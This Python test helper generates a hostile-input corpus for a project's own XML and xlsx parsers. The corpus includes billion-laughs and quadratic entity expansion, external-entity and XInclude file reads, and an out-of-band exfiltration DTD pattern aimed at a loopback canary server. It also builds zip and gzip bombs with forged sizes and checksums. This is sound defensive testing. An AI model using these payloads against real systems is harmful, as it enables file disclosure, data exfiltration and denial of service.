"""Hostile inputs for the parsers we own, generated (nothing downloaded, nothing checked in):

- an XML attack corpus (entity expansion, external entities and DTDs, XInclude, schema-location
  hints, deep nesting, huge attributes) aimed at a file and at a canary HTTP server on loopback;
- a canary HTTP server that counts every connection it accepts (a parser that fetches anything
  shows up as a connection, whatever the path);
- xlsx workbooks built member by member with a raw zip writer, so that archives can lie about
  their sizes and checksums the way zip bombs do;
- a runner that parses in a child process under an address-space limit and reports its peak RSS.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import struct
import subprocess
import sys
import threading
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

PROJECT_ROOT = Path(__file__).resolve().parents[2]
CANARY_MARKER = "CANARY-REACHED"
SECRET_MARKER = "TOP-SECRET-FILE-CONTENT"
XINCLUDE = "http://www.w3.org/2001/XInclude"

# ---------------------------------------------------------------- the canary


class _CanaryHandler(http.server.BaseHTTPRequestHandler):
    server: CanaryServer

    def do_GET(self) -> None:  # noqa: N802 - the http.server API
        self.server.requests.append(self.path)
        body = (
            f'<!ENTITY canary "{CANARY_MARKER}">'.encode()
            if self.path.endswith(".dtd")
            else f"<canary>{CANARY_MARKER}</canary>".encode()
        )
        self.send_response(200)
        self.send_header("Content-Type", "application/xml-dtd" if self.path.endswith(".dtd") else "application/xml")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the http.server API
        return None


class CanaryServer(http.server.ThreadingHTTPServer):
    """Answers anything; `connections` counts accepted connections, `requests` the paths asked for."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _CanaryHandler)
        self.connections = 0
        self.requests: list[str] = []
        self._lock = threading.Lock()

    def get_request(self) -> Any:
        accepted = super().get_request()
        with self._lock:
            self.connections += 1
        return accepted

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@contextmanager
def canary_server() -> Iterator[CanaryServer]:
    server = CanaryServer()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


class _FilesHandler(http.server.BaseHTTPRequestHandler):
    files: dict[str, bytes | tuple[bytes, dict[str, str]]]

    def do_GET(self) -> None:  # noqa: N802 - the http.server API
        found = self.files.get(self.path)
        if found is None:
            self.send_error(404)
            return
        body, headers = found if isinstance(found, tuple) else (found, {})
        self.send_response(200)
        self.send_header("Content-Type", "application/xml")
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        # The reader may stop at its size limit and hang up, as it should.
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the http.server API
        return None


@contextmanager
def file_server(files: dict[str, bytes | tuple[bytes, dict[str, str]]]) -> Iterator[str]:
    """Serves `files` (path → body, or body and extra headers) on loopback: where the catalogue URL
    reader fetches the attacks from."""
    handler = type("Files", (_FilesHandler,), {"files": files})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


# ---------------------------------------------------------------- the XML attack corpus


@dataclass(frozen=True)
class XmlTarget:
    """What a parser expects: a document whose body is replaced by the attack. `body` is a complete,
    valid document; `root` its root element's start tag (with namespaces), `root_name` the root's
    qualified name as a DOCTYPE names it, `inner` markup the parser would read as data."""

    body: bytes
    root: str
    root_name: str
    end: str
    inner: str


@dataclass(frozen=True)
class XmlAttack:
    name: str
    data: bytes
    # What the attack would do if it got through: entity expansion (memory), or a fetch (file or network).
    kind: str


def _laughs(levels: int, fan_out: int) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        lines.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * fan_out}">')
    return "".join(lines)


def xml_attacks(target: XmlTarget, secret: Path, canary: str, huge: int = 9_500_000) -> list[XmlAttack]:
    """The corpus for one parser: each attack wrapped in a document the parser would otherwise read.

    `secret` is a local file whose content must never come back; `canary` the canary's base URL.
    """
    secret_uri = secret.as_uri()
    prolog = '<?xml version="1.0" encoding="UTF-8"?>\n'
    root, end, inner, name = target.root, target.end, target.inner, target.root_name

    def with_dtd(subset: str, content: str) -> bytes:
        return f"{prolog}<!DOCTYPE {name} [{subset}]>{root}{content}{inner}{end}".encode()

    attribute_root = root[:-1] + ' extra="{}">'
    attacks = [
        XmlAttack("billion_laughs", with_dtd(_laughs(9, 10), "<x>&lol9;</x>"), "expansion"),
        XmlAttack(
            "billion_laughs_in_attribute",
            f"{prolog}<!DOCTYPE {name} [{_laughs(9, 10)}]>{attribute_root.format('&lol9;')}{inner}{end}".encode(),
            "expansion",
        ),
        XmlAttack(
            "quadratic_blowup",  # one 100 kB entity referenced 50,000 times: 5 GB if expanded
            with_dtd(f'<!ENTITY a "{"a" * 100_000}">', "<x>" + "&a;" * 50_000 + "</x>"),
            "expansion",
        ),
        XmlAttack(
            "quadratic_blowup_in_attribute",
            f'{prolog}<!DOCTYPE {name} [<!ENTITY a "{"a" * 100_000}">]>'.encode()
            + attribute_root.format("&a;" * 50_000).encode()
            + f"{inner}{end}".encode(),
            "expansion",
        ),
        XmlAttack("external_entity_file", with_dtd(f'<!ENTITY x SYSTEM "{secret_uri}">', "<x>&x;</x>"), "file"),
        XmlAttack(
            "external_entity_http",
            with_dtd(f'<!ENTITY x SYSTEM "{canary}/canary">', "<x>&x;</x>"),
            "network",
        ),
        XmlAttack(
            "parameter_entity_file",
            with_dtd(f'<!ENTITY % p SYSTEM "{secret_uri}"> %p;', ""),
            "file",
        ),
        XmlAttack(
            "parameter_entity_http",  # the out-of-band exfiltration pattern: %dtd; defines %send;
            with_dtd(
                f'<!ENTITY % data SYSTEM "{secret_uri}"><!ENTITY % dtd SYSTEM "{canary}/evil.dtd"> %dtd;',
                "<x>&canary;</x>",
            ),
            "network",
        ),
        XmlAttack(
            "external_dtd",
            f'{prolog}<!DOCTYPE {name} SYSTEM "{canary}/x.dtd">{root}<x>&canary;</x>{inner}{end}'.encode(),
            "network",
        ),
        XmlAttack(
            "external_dtd_public",
            f'{prolog}<!DOCTYPE {name} PUBLIC "-//X//Y//EN" "{canary}/public.dtd">{root}{inner}{end}'.encode(),
            "network",
        ),
        XmlAttack(
            "xinclude_file",
            f'{prolog}{root}<xi:include xmlns:xi="{XINCLUDE}" href="{secret_uri}" parse="text"/>{inner}{end}'.encode(),
            "file",
        ),
        XmlAttack(
            "xinclude_http",
            f'{prolog}{root}<xi:include xmlns:xi="{XINCLUDE}" href="{canary}/canary"/>{inner}{end}'.encode(),
            "network",
        ),
        XmlAttack(
            "xinclude_2003_namespace",  # libxml2 also honours the draft namespace
            f'{prolog}{root}<xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="{canary}/canary"/>'
            f"{inner}{end}".encode(),
            "network",
        ),
        XmlAttack(
            "schema_location_hint",
            (
                f'{prolog}{root[:-1]} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                f'xsi:schemaLocation="urn:x-cchc:submission:1 {canary}/schema.xsd" '
                f'xsi:noNamespaceSchemaLocation="{canary}/nons.xsd">{inner}{end}'
            ).encode(),
            "network",
        ),
        XmlAttack(
            "deep_nesting",  # 100,000 levels: a recursive reader would overflow its stack
            f"{prolog}{root}".encode() + b"<a>" * 100_000 + b"</a>" * 100_000 + f"{inner}{end}".encode(),
            "expansion",
        ),
        XmlAttack(
            "huge_attribute",  # `huge` bytes in one attribute value (under the central's 10 MiB body limit)
            f'{prolog}{root[:-1]} extra="'.encode() + b"a" * huge + f'">{inner}{end}'.encode(),
            "expansion",
        ),
    ]
    return attacks


def oversize_document(target: XmlTarget, size: int) -> bytes:
    """A well-formed document of at least `size` bytes (comments as padding)."""
    padding = b"<!--" + b"p" * max(0, size - len(target.body)) + b"-->"
    return target.body.replace(target.end.encode(), padding + target.end.encode())


def catalogue_target() -> XmlTarget:
    record = (
        "<ThuTuc><MaTTHC>1.000001</MaTTHC><TenTTHC>Cấp bản sao trích lục hộ tịch</TenTTHC>"
        "<MaLinhVuc>LV-HOTICH</MaLinhVuc><MaDonVi>000.00.01.H99</MaDonVi><MucDo>TOAN_TRINH</MucDo>"
        "<CoPhi>1</CoPhi><ThanhToanTrucTuyen>1</ThanhToanTrucTuyen></ThuTuc>"
    )
    body = f'<?xml version="1.0" encoding="UTF-8"?>\n<DanhMucTTHC>{record}</DanhMucTTHC>'.encode()
    return XmlTarget(body, "<DanhMucTTHC>", "DanhMucTTHC", "</DanhMucTTHC>", record)


def submission_target(example: bytes) -> XmlTarget:
    """A valid submission (one of the contract's examples): the attack goes inside its root."""
    text = example.decode("utf-8")
    start = text.index("<Submission")
    open_end = text.index(">", start) + 1
    close = text.rindex("</Submission>")
    return XmlTarget(example, text[start:open_end], "Submission", "</Submission>", text[open_end:close])


# ---------------------------------------------------------------- workbooks, member by member

SPREADSHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ICT_HEADER = (
    "STT",
    "Mã đơn vị",
    "Tên đơn vị",
    "Hạ tầng kỹ thuật",
    "Nguồn nhân lực",
    "Ứng dụng CNTT",
    "Chính sách, đầu tư",
    "Ghi chú",
)
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
PACKAGE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<workbook xmlns="{SPREADSHEET_NS}" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sở ban ngành" sheetId="1" r:id="rId1"/></sheets></workbook>'
).encode()
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'worksheet" Target="worksheets/sheet1.xml"/>'
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)
SHEET_START = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{SPREADSHEET_NS}"><sheetData>'
SHEET_END = "</sheetData></worksheet>"
UNIT_ROW = (
    '<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="inlineStr"><is><t>000.00.01.H99</t></is></c>'
    '<c r="C2" t="inlineStr"><is><t>Sở Tư pháp</t></is></c><c r="D2"><v>50.5</v></c><c r="E2"><v>40</v></c>'
    '<c r="F2"><v>120.25</v></c><c r="G2"><v>30</v></c></row>'
)


def header_row() -> str:
    cells = "".join(f'<c r="{chr(65 + index)}1" t="s"><v>{index}</v></c>' for index in range(len(ICT_HEADER)))
    return f'<row r="1">{cells}</row>'


def sheet_xml(rows: str = UNIT_ROW) -> bytes:
    return (SHEET_START + header_row() + rows + SHEET_END).encode()


def shared_strings_xml(prolog: str = "", extra_items: str = "") -> bytes:
    items = "".join(f"<si><t>{escape(title)}</t></si>" for title in ICT_HEADER) + extra_items
    count = len(ICT_HEADER) + extra_items.count("<si>")
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<sst xmlns="{SPREADSHEET_NS}" count="{count}" uniqueCount="{count}">{items}</sst>'
    ).encode()


@dataclass
class Member:
    """One zip member as written: `payload` is what is stored (already deflated when `method` is 8).
    `declared_size` and `crc` are what the headers claim, honest by default."""

    name: str
    payload: bytes
    method: int
    size: int
    crc: int
    declared_size: int | None = None
    declared_crc: int | None = None
    flags: int = 0
    # What the local header claims, when it is to differ from the directory.
    local_size: int | None = None


def deflated(name: str, data: bytes) -> Member:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(name, compressor.compress(data) + compressor.flush(), 8, len(data), zlib.crc32(data))


def repeated_deflate(prefix: bytes, block: bytes, copies: int, suffix: bytes) -> tuple[bytes, int, int]:
    """A raw deflate stream of prefix + block × copies + suffix, without compressing it all: after a
    full flush the compressor keeps no history, so every copy of the block compresses to the same
    bytes, which are simply repeated. Returns (stream, size, crc)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    one = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(suffix) + compressor.flush()
    crc = zlib.crc32(prefix)
    for _ in range(copies):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(suffix, crc)
    return head + one * copies + tail, len(prefix) + len(block) * copies + len(suffix), crc


def gzip_bomb(prefix: bytes, block: bytes, copies: int) -> bytes:
    """A gzip body (Content-Encoding: gzip) that inflates to prefix + block × copies."""
    stream, size, crc = repeated_deflate(prefix, block, copies, b"")
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + stream + struct.pack("<II", crc, size & 0xFFFFFFFF)


def write_zip(path: Path, members: list[Member]) -> Path:
    """A zip archive written byte by byte (local headers, data, central directory, end record), so
    that the sizes and checksums in its headers can be made to lie."""
    out = bytearray()
    central = bytearray()
    for member in members:
        name = member.name.encode("utf-8")
        size = member.size if member.declared_size is None else member.declared_size
        crc = member.crc if member.declared_crc is None else member.declared_crc
        local_size = size if member.local_size is None else member.local_size
        flags = member.flags | 0x800  # UTF-8 names
        offset = len(out)
        out += struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, member.method, 0, 0x21, crc, len(member.payload), local_size,
            len(name), 0,
        )  # fmt: skip
        out += name + member.payload
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, member.method, 0, 0x21, crc, len(member.payload),
            size, len(name), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def workbook_members(sheet: bytes | None = None, shared: bytes | None = None) -> list[Member]:
    return [
        deflated("[Content_Types].xml", CONTENT_TYPES),
        deflated("_rels/.rels", PACKAGE_RELS),
        deflated("xl/workbook.xml", WORKBOOK),
        deflated("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
        deflated("xl/worksheets/sheet1.xml", sheet if sheet is not None else sheet_xml()),
        deflated("xl/sharedStrings.xml", shared if shared is not None else shared_strings_xml()),
    ]


def write_workbook(path: Path, sheet: bytes | None = None, shared: bytes | None = None) -> Path:
    return write_zip(path, workbook_members(sheet, shared))


# ---------------------------------------------------------------- parsing in a child process

# Peak RSS is the kernel's high-water mark of this process's own memory (VmHWM): getrusage's
# ru_maxrss would start from the parent's resident set, which Linux carries over at fork and exec.
CHILD_SCRIPT = r"""
import json, os, resource, sys, time


def peak_rss_kib():
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))


limit = int(sys.argv[1])
if limit:
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
sys.path.insert(0, os.getcwd())
job = json.loads(sys.stdin.read())
import importlib
module_name, _, function_name = job["function"].partition(":")
function = getattr(importlib.import_module(module_name), function_name)
baseline = peak_rss_kib()
results = []
for argument in job["arguments"]:
    started = time.monotonic()
    try:
        value = function(argument)
        outcome = {"rejected": False, "value": repr(value)[:2000]}
        if hasattr(value, "records"):
            outcome.update(records=len(value.records), rejects=len(value.rejects))
    except MemoryError:
        outcome = {"rejected": False, "error": "MemoryError", "message": "out of memory"}
    except Exception as error:
        outcome = {
            "rejected": True,
            "error": type(error).__name__,
            "classes": [klass.__name__ for klass in type(error).__mro__],
            "message": str(error)[:2000],
        }
    outcome["seconds"] = round(time.monotonic() - started, 3)
    outcome["peak_rss_kib"] = peak_rss_kib()
    results.append(outcome)
print(json.dumps({"baseline_rss_kib": baseline, "results": results}))
"""


@dataclass(frozen=True)
class ChildRun:
    returncode: int
    stderr: str
    baseline_rss_mib: float  # after the imports, before the first parse
    peak_rss_mib: float
    results: list[dict[str, Any]]

    @property
    def crashed(self) -> bool:
        return self.returncode != 0 or not self.results


def parse_in_child(
    function: str, arguments: list[str], *, address_space_mib: int = 0, timeout: float = 300
) -> ChildRun:
    """Call `module:function(argument)` for each argument in a fresh interpreter (cwd: the project)
    whose address space is capped at `address_space_mib` (0: no cap), with its peak RSS. A parser
    that kills the process (a Rust allocation failure aborts it) shows as a non-zero return code
    and no results."""
    environment = {**os.environ, "OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1", "MALLOC_ARENA_MAX": "2"}
    completed = subprocess.run(
        [sys.executable, "-c", CHILD_SCRIPT, str(address_space_mib << 20)],
        input=json.dumps({"function": function, "arguments": arguments}),
        capture_output=True,
        text=True,
        cwd=PROJECT_ROOT,
        env=environment,
        timeout=timeout,
        check=False,
    )
    lines = [line for line in completed.stdout.splitlines() if line.startswith("{")]
    report = json.loads(lines[-1]) if completed.returncode == 0 and lines else {"baseline_rss_kib": 0, "results": []}
    peaks = [result["peak_rss_kib"] for result in report["results"]]
    return ChildRun(
        completed.returncode,
        completed.stderr[-4000:],
        report["baseline_rss_kib"] / 1024,
        max(peaks, default=0) / 1024,
        report["results"],
    )
